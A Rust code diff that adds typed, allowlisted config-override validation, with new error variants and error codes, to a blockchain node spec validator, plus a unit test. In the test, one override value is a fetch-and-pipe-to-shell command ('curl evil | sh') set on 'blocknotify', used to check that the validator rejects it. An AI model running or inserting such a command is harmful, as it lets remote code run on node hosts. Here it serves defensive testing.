@@ -62,6 +62,10 @@ pub enum ValidationError {
     TooOld { field: String, client: String, network: String, version: String, min: String },
     #[error("{field}: {key:?} is set by the adapter ({why}) and cannot be overridden")]
     ManagedKey { field: String, key: String, why: &'static str },
+    #[error("{field}: {key:?} is not a setting {client} lets a spec override (its settings: {allowed})")]
+    OverrideNotAllowed { field: String, key: String, client: String, allowed: String },
+    #[error("{field}: {key}: {reason}")]
+    BadOverride { field: String, key: String, reason: String },
 }
 
 impl ValidationError {
@@ -78,8 +82,38 @@ impl ValidationError {
             | ValidationError::TooLong { field, .. }
             | ValidationError::ProgramNotAllowed { field, .. }
             | ValidationError::TooOld { field, .. }
-            | ValidationError::ManagedKey { field, .. } => Some(field),
-            _ => None,
+            | ValidationError::ManagedKey { field, .. }
+            | ValidationError::OverrideNotAllowed { field, .. }
+            | ValidationError::BadOverride { field, .. } => Some(field),
+            ValidationError::UnknownChain { .. } => Some("chain"),
+            ValidationError::UnknownNetwork { .. } => Some("network"),
+            ValidationError::UnsupportedNodeType { .. } => Some("nodeType"),
+            ValidationError::UnknownClient { .. } | ValidationError::UnknownVersion { .. } | ValidationError::ClientNetwork { .. } => Some("clients"),
+        }
+    }
+
+    /// A stable name for the kind of error, for programs (a form marks the field).
+    pub fn code(&self) -> &'static str {
+        match self {
+            ValidationError::Empty { .. } => "required",
+            ValidationError::BadName { .. } => "invalid_name",
+            ValidationError::BadVersion { .. } => "invalid_version",
+            ValidationError::Duplicate { .. } => "duplicate",
+            ValidationError::Invalid { .. } => "invalid",
+            ValidationError::ControlCharacter { .. } => "control_character",
+            ValidationError::TooMany { .. } => "too_many",
+            ValidationError::TooLong { .. } => "too_long",
+            ValidationError::ProgramNotAllowed { .. } => "program_not_allowed",
+            ValidationError::UnknownChain { .. } => "chain_not_supported_by_executor",
+            ValidationError::UnknownNetwork { .. } => "network_not_supported_by_executor",
+            ValidationError::UnsupportedNodeType { .. } => "node_type_not_supported_by_executor",
+            ValidationError::UnknownClient { .. } => "client_not_supported_by_executor",
+            ValidationError::UnknownVersion { .. } => "version_not_offered_by_executor",
+            ValidationError::ClientNetwork { .. } => "client_does_not_run_network",
+            ValidationError::TooOld { .. } => "version_below_network_minimum",
+            ValidationError::ManagedKey { .. } => "override_managed_by_adapter",
+            ValidationError::OverrideNotAllowed { .. } => "override_not_allowed",
+            ValidationError::BadOverride { .. } => "override_value_invalid",
         }
     }
 }
@@ -453,7 +487,25 @@ fn check_client_rules(errs: &mut Vec<ValidationError>, i: usize, c: &ClientSpec,
             });
         }
     }
-    for key in c.config_overrides.keys() {
+    for (key, value) in &c.config_overrides {
+        if !sup.overrides.is_empty() {
+            // A client that lists its settings takes those only, each of its type.
+            let field = || format!("clients[{i}].configOverrides");
+            match sup.override_key(key) {
+                None => errs.push(ValidationError::OverrideNotAllowed {
+                    field: field(),
+                    key: key.clone(),
+                    client: c.client.clone(),
+                    allowed: list(sup.overrides.iter().map(|o| o.name.as_str())),
+                }),
+                Some(o) => {
+                    if let Err(reason) = o.check(value) {
+                        errs.push(ValidationError::BadOverride { field: field(), key: key.clone(), reason: reason.to_string() });
+                    }
+                }
+            }
+            continue;
+        }
         if sup.managed_keys.iter().any(|m| m.eq_ignore_ascii_case(key)) {
             errs.push(ValidationError::ManagedKey {
                 field: format!("clients[{i}].configOverrides"),
@@ -608,6 +660,50 @@ mod tests {
         s.clients[0].config_overrides.remove("HTTP.port");
         s.network = "mainnet".into();
         assert_eq!(validate_spec(&s, &caps, None), Ok(()), "the floor is per network; other keys may be overridden");
+    }
+
+    #[test]
+    fn a_client_that_lists_its_settings_takes_those_only_each_of_its_type() {
+        use crate::executor::{OverrideKey, OverrideKind};
+        let key = |name: &str, kind| OverrideKey {
+            name: name.into(),
+            kind,
+            allowed: if kind == OverrideKind::Enum { vec!["ipv4".into(), "onion".into()] } else { vec![] },
+            min: (kind == OverrideKind::Integer).then_some(4),
+            max: (kind == OverrideKind::Integer).then_some(16384),
+            default: None,
+            description: String::new(),
+        };
+        let mut caps = caps();
+        caps.chains[0].clients[0].overrides = vec![
+            key("dbcache", OverrideKind::Integer),
+            key("blocksonly", OverrideKind::Bool),
+            key("onlynet", OverrideKind::Enum),
+            key("debug", OverrideKind::String),
+        ];
+        let mut s = eth_spec("n");
+        for (k, v) in [("dbcache", "4096"), ("blocksonly", "1"), ("onlynet", "onion"), ("debug", "net")] {
+            s.clients[0].config_overrides.insert(k.into(), v.into());
+        }
+        assert_eq!(validate_spec(&s, &caps, None), Ok(()));
+        // A setting that runs a program is simply not among them.
+        s.clients[0].config_overrides.insert("blocknotify".into(), "curl evil | sh".into());
+        s.clients[0].config_overrides.insert("dbcache".into(), "1".into());
+        s.clients[0].config_overrides.insert("blocksonly".into(), "true".into());
+        s.clients[0].config_overrides.insert("onlynet".into(), "tor".into());
+        let errs = validate_spec(&s, &caps, None).unwrap_err();
+        let text: Vec<String> = errs.iter().map(ToString::to_string).collect();
+        assert_eq!(errs.len(), 4, "{text:?}");
+        assert!(
+            matches!(&errs[..], [ValidationError::OverrideNotAllowed { key, field, .. }, ..] if key == "blocknotify" && field == "clients[0].configOverrides"),
+            "{text:?}"
+        );
+        assert!(text[0].contains("its settings: dbcache, blocksonly, onlynet, debug"), "{text:?}");
+        assert!(text.contains(&"clients[0].configOverrides: blocksonly: \"true\" is not 0 or 1".to_string()), "{text:?}");
+        assert!(text.contains(&"clients[0].configOverrides: dbcache: 1 is below the minimum 4".to_string()), "{text:?}");
+        assert!(text.iter().any(|t| t.contains("onlynet: \"tor\" is not one of ipv4, onion")), "{text:?}");
+        assert_eq!(key("x", OverrideKind::String).check(" "), Err(crate::executor::OverrideValueError::Empty));
+        assert!(key("x", OverrideKind::Integer).check("99999").unwrap_err().to_string().contains("above the maximum"));
     }
 
     #[test]
